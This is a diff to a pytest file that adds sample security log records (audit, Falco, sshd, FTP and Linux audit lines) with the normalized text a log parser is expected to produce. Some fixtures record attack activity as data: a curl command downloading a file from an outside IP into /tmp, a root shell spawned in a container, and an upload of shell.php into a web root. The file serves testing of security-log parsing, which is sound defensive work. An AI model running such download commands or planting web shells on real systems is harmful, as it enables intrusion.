@@ -185,3 +185,21 @@ def test_no_value_of_another_type_stops_a_sensors_reader(odd):
             if isinstance(value, dict):
                 for inner in value:
                     read({**record, name: {**value, inner: odd}})
+
+
+FILES = (
+    ("header,129,11,execve(2),0,Mon Jan  1 00:00:00 2026, + 123 msec\nexec arg,curl,-o,/tmp/x,http://45.9.148.10/x\npath,/usr/bin/curl\n"
+     "subject,ann,root,wheel,root,wheel,901,100004,0,0.0.0.0\nreturn,success,0\ntrailer,129", "process execute success process usr bin curl command curl o tmp x http url publicip x as user"),
+    ("00:00:00.123456789: Notice A shell was spawned (user=root process=bash proc_exepath=/bin/bash parent=runc command=bash -c id terminal=1 x terminal=34816 container_id=ab12)",
+     "rule a shell was spawned priority notice process bin bash command bash c id terminal num x parent runc as root in container"),
+    ("__CURSOR=s=abc\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER=sshd\nMESSAGE=" + GUESSED, "login failed ssh password root from publicip"),
+    ("Mon Jan  1 00:00:00 2026 1 45.9.148.10 1234 /var/www/html/shell.php b _ i r ann ftp 0 * c", "file upload success ftp var www html shell php by user from publicip"),
+    ("2026-01-01 00:00:00,123 web1 proftpd[9] 10.0.0.5 (45.9.148.10[45.9.148.10]): USER ann (Login failed): Incorrect password", "login failed ftp user from publicip"),
+    ("type=PATH msg=audit(01/02/2026 10:11:12.123:4567) : item=0 name=/home/ann/my secret plans.docx inode=123 mode=file,644 ouid=ann nametype=DELETE",
+     "file path linux audit file home my secret plans docx delete owner user"),
+)
+
+
+@pytest.mark.parametrize("text, words", FILES, ids=range(len(FILES)))
+def test_what_stands_in_files_of_an_own_form_is_said(text, words):
+    assert words in read(text).template
